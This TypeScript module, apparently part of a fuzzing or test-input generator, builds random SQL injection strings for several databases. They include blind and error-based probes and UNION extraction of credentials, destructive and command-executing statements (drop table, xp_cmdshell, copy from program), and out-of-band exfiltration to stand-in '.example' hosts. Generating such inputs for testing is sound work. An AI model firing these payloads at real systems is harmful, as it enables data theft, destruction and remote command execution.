import type { Draw, Grammar } from './builtin-grammar.ts'

const tables = ['users', 'accounts', 'customer', 'orders', 'api_keys', 'staff', 'shop.members'] as const
const columns = ['password', 'email', 'pin', 'card_no', 'token', 'hidden', 'price', 'is_admin'] as const

/** White space as databases accept it, or what stands in for it. */
function gap(draw: Draw): string {
  if (draw.chance(0.65)) return ' '
  return draw.of(['/**/', '\t', '\n', '  ', '/*x*/', '\r\n', '\x0b', '/*!*/', '\x0c'])
}

function tail(draw: Draw): string {
  return draw.of(['-- ', '--', '#', '-- -', '/*', ';--', `-- ${draw.word()}`, '--+', ';%00'])
}

function number(draw: Draw): string {
  return String(draw.int(0, 9_999))
}

function scalar(draw: Draw): string {
  const table = draw.of(tables)
  const column = draw.of(columns)
  return draw.of([
    `select ${column} from ${table} limit 1`,
    `select top 1 ${column} from ${table}`,
    `select min(${column}) from ${table}`,
    `select ${column} from ${table} where rownum=1`,
    `select count(*) from ${table}`,
    `select string_agg(${column},',') from ${table}`,
    `select group_concat(${column}) from ${table}`,
    `select sql from sqlite_master limit ${draw.int(0, 5)},1`,
    `select banner from v$version where rownum=1`,
  ])
}

function always(draw: Draw): string {
  const n = number(draw)
  const w = draw.word()
  return draw.of([
    `${n}=${n}`,
    `${n}<${n}1`,
    `'${w}'='${w}'`,
    `'${w}'like'${w}'`,
    `${n} between ${draw.int(0, 0)} and ${n}`,
    `${n} in (${n},${number(draw)})`,
    `not ${n}=${n}1`,
    n,
    'true',
    draw.of(columns),
    `${draw.of(columns)} is not null`,
    `${draw.of(columns)} like '%'`,
    `${draw.of(columns)}>0`,
    `length(${draw.of(columns)})>${draw.int(1, 9)}`,
    `ascii(substr((${scalar(draw)}),${draw.int(1, 9)},1))>${draw.int(32, 120)}`,
    `substring((${scalar(draw)}),${draw.int(1, 9)},1)='${w[0] ?? 'a'}'`,
    `exists(${scalar(draw)})`,
    `(${scalar(draw)})>${draw.int(0, 3)}`,
    `unicode(substring(db_name(),${draw.int(1, 9)},1))>${draw.int(32, 120)}`,
    `${draw.of(columns)} regexp '^${w[0] ?? 'a'}'`,
    `${draw.of(columns)} glob '${w[0] ?? 'a'}*'`,
    `${draw.of(columns)} similar to '${w[0] ?? 'a'}%'`,
  ])
}

const joiners = ['or', 'and', '||', '&&', 'or not', 'xor', 'and not'] as const

function slow(draw: Draw): string {
  const n = draw.int(2, 15)
  return draw.of([
    `sleep(${n})`,
    `pg_sleep(${n})`,
    `(select sleep(${n}))`,
    `(select pg_sleep(${n}))`,
    `(select ${draw.int(1, 9)} from (select sleep(${n}))${draw.word()})`,
    `(select ${draw.int(1, 9)} from pg_sleep(${n}))`,
    `benchmark(${n}000000,md5(${n}))`,
    `dbms_pipe.receive_message('${draw.word()}',${n})`,
    `dbms_session.sleep(${n})`,
    `randomblob(${n}00000000)`,
    `if(${always(draw)},sleep(${n}),0)`,
    `case when ${always(draw)} then pg_sleep(${n}) else pg_sleep(0) end`,
    `like('abcdefg',upper(hex(randomblob(${n}00000000/2))))`,
  ])
}

function failing(draw: Draw): string {
  const inner = scalar(draw)
  return draw.of([
    `extractvalue(${draw.int(1, 99)},concat(0x7e,(${inner})))`,
    `updatexml(null,concat(0x0a,(${inner})),null)`,
    `cast((${inner}) as int)`,
    `(${inner})::int`,
    `convert(int,(${inner}))`,
    `convert(int,@@version)`,
    `ctxsys.drithsx.sn(1,(${inner}))`,
    `utl_inaddr.get_host_address((${inner}))`,
    `exp(~(select*from(${inner})x))`,
    `gtid_subset((${inner}),1)`,
    `json_keys((select convert((${inner}) using utf8)))`,
    `to_number((${inner}))`,
    `db_name(${draw.int(0, 9)})-1`,
    `load_extension('//${draw.word()}.example/${draw.word()}')`,
    `case when ${always(draw)} then 1/0 else 1 end`,
    `abs(case when ${always(draw)} then -9223372036854775808 else 0 end)`,
    `1/(select case when ${always(draw)} then 0 else 1 end)`,
    `iif(${always(draw)},1,1/0)`,
  ])
}

function statement(draw: Draw): string {
  const table = draw.of(tables)
  const column = draw.of(columns)
  const word = draw.word()
  return draw.of([
    `drop table ${table}`,
    `drop table ${table} cascade`,
    `drop table if exists ${table}`,
    `truncate table ${table}`,
    `truncate ${table}`,
    `update ${table} set ${column}='${word}'`,
    `update ${table} set ${column}=${draw.int(0, 9)} where id=${draw.int(1, 9)}`,
    `insert into ${table} values(${draw.int(1, 9)},'${word}')`,
    `insert into ${table} (${column}) values ('${word}')`,
    `delete from ${table}`,
    `delete from ${table} where ${column} is not null`,
    `alter table ${table} add ${word} int`,
    `alter user ${word} with superuser`,
    `create table ${word}(a text)`,
    `create user ${word} identified by '${word}'`,
    `create function ${word}() returns int as '/tmp/x.so' language c`,
    `exec xp_cmdshell 'dir'`,
    `exec master..xp_dirtree '//${word}.example/a'`,
    `exec('sel'+'ect 1')`,
    `waitfor delay '0:0:${draw.int(2, 9)}'`,
    `select pg_sleep(${draw.int(2, 9)})`,
    `select sleep(${draw.int(2, 9)})`,
    `copy ${table} to '/tmp/${word}'`,
    `copy ${word} from program 'id'`,
    `copy (select 1) to program 'id'`,
    `attach database '/var/www/${word}.php' as ${word}`,
    `declare @${word} varchar(99);set @${word}=0x44;exec(@${word})`,
    `begin dbms_lock.sleep(${draw.int(2, 9)}); end`,
    `grant all on ${table} to ${word}`,
    `set global general_log='on'`,
    `do $$begin perform pg_sleep(${draw.int(2, 9)});end$$`,
    `call ${word}(1)`,
    `shutdown`,
    `replace into ${table} values(1,2)`,
    `vacuum into '/var/www/${word}'`,
    `pragma table_info(${table})`,
    `merge into ${table} using dual on (1=1) when matched then update set ${column}=1`,
    `prepare ${word} from 'select 1'`,
    `lock tables ${table} write`,
  ])
}

function union(draw: Draw): string {
  const items = Array.from({ length: draw.int(1, 6) }, (_, i) =>
    draw.of([
      'null',
      String(i + 1),
      `'${draw.word()}'`,
      draw.of(columns),
      'version()',
      '@@version',
      'user',
      'char(65)',
    ]),
  ).join(',')
  const from = draw.of([
    '',
    ` from ${draw.of(tables)}`,
    ' from dual',
    ' from information_schema.tables',
    ' from sqlite_master',
    ' from pg_shadow',
    ` from ${draw.of(tables)} where ${always(draw)}`,
    ` from all_tables`,
    ` from sysobjects where xtype='U'`,
  ])
  const join = draw.of(['union', 'union all', 'union distinct', 'except', 'intersect', 'minus', 'union all'])
  return draw.of([
    `${join} select ${items}${from}`,
    `${join} select ${items}${from}`,
    `${join}(select ${items}${from})`,
  ])
}

function outOfBand(draw: Draw): string {
  const host = `${draw.word()}.example`
  const inner = scalar(draw)
  return draw.of([
    `utl_http.request('http://${host}/'||(${inner}))`,
    `load_file(concat('//',(${inner}),'.${host}/a'))`,
    `utl_inaddr.get_host_address((${inner})||'.${host}')`,
    `httpuritype('http://${host}/'||(${inner})).getclob()`,
    `dbms_ldap.init((${inner})||'.${host}',80)`,
    `extractvalue(xmltype('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://${host}/"> %x;]>'),'/l')`,
    `dblink_connect('host=${host} user='||(${inner}))`,
    `openrowset('SQLOLEDB','${host}';'sa';'x','select 1')`,
  ])
}

function spaced(draw: Draw, text: string): string {
  const sign = gap(draw)
  const cased = draw.chance(0.4) ? draw.caseOf(text) : text
  return sign === ' ' || text.includes('$$') ? cased : cased.replaceAll(' ', sign)
}

function conditional(draw: Draw): string {
  const join = draw.of(joiners)
  const what = draw.of([always, always, slow, failing, outOfBand])(draw)
  return ` ${join} ${what}`
}

function behindString(draw: Draw): string {
  const quote = draw.of(["'", "'", "'", '"'])
  const value = draw.of(['', draw.word(), number(draw), `${draw.word()}@example.org`])
  const closers = draw.of(['', '', '', ')', '))'])
  const turned = (text: string): string => (quote === '"' ? text.replaceAll("'", '"') : text)
  const head = `${value}${quote}${closers}`
  const word = draw.word()
  switch (draw.int(0, 5)) {
    case 0:
      return `${head}${turned(conditional(draw))}${draw.of([' ', ''])}${tail(draw)}`
    case 1:
      return `${value}${quote} ${draw.of(['or', 'and', '||', '&&'])} ${quote}${word}${quote}=${quote}${word}`
    case 2:
      return `${head};${draw.of([' ', ''])}${turned(statement(draw))}${draw.of(['', ';'])}${tail(draw)}`
    case 3:
      return `${head} ${turned(union(draw))} ${tail(draw)}`
    case 4:
      return `${value}${quote}${draw.of(['||', '+'])}(${turned(scalar(draw))})${draw.of(['||', '+'])}${quote}`
    default:
      return `${head} ${draw.of(['order by', 'group by'])} ${draw.int(1, 40)}${draw.of([' ', ''])}${tail(draw)}`
  }
}

function bare(draw: Draw): string {
  const value = draw.of([number(draw), number(draw), `-${number(draw)}`, '0'])
  const closers = draw.of(['', '', '', ')', '))'])
  switch (draw.int(0, 5)) {
    case 0:
    case 1:
      return `${value}${closers}${conditional(draw)}${draw.of(['', '', ` ${tail(draw)}`])}`
    case 2:
      return `${value}${closers};${draw.of([' ', ''])}${statement(draw)}${draw.of(['', ';', tail(draw), ' -- '])}`
    case 3:
      return `${value}${closers} ${union(draw)}${draw.of(['', ` ${tail(draw)}`])}`
    case 4:
      return `${value}${draw.of(['-', '+', '*', '/', '%', '|', '^'])}${draw.of([slow, failing, outOfBand])(draw)}`
    default:
      return `(${scalar(draw)})`
  }
}

function sortKey(draw: Draw): string {
  const key = draw.of([draw.of(columns), draw.word(), String(draw.int(1, 20)), `${draw.word()}_at`])
  return draw.of([
    `${key},${slow(draw)}`,
    `${key}, ${slow(draw)}`,
    `${key},${failing(draw)}`,
    `${key} ${draw.of(['asc', 'desc'])},${draw.of([slow, failing])(draw)}`,
    `(case when ${always(draw)} then ${draw.of(columns)} else ${draw.of(columns)} end)`,
    `${key},(case when ${always(draw)} then 1 else 2 end)`,
    `if(${always(draw)},${draw.of(columns)},${draw.of(columns)})`,
    `(${scalar(draw)})`,
    `${key},(${scalar(draw)})`,
    `${key};${statement(draw)}`,
    `${key} limit 1 ${union(draw)}`,
    `${key} desc limit 1 into outfile '/tmp/${draw.word()}'`,
  ])
}

/** SQL injection behind a string, where a number stands and in a sort order, for five databases. */
export const sqlBehindString: Grammar = (draw) => spaced(draw, behindString(draw))
/** The same where the query has no quotes. */
export const sqlBare: Grammar = (draw) => spaced(draw, bare(draw))
/** The same where a column's name is wanted. */
export const sqlSortKey: Grammar = (draw) => spaced(draw, sortKey(draw))
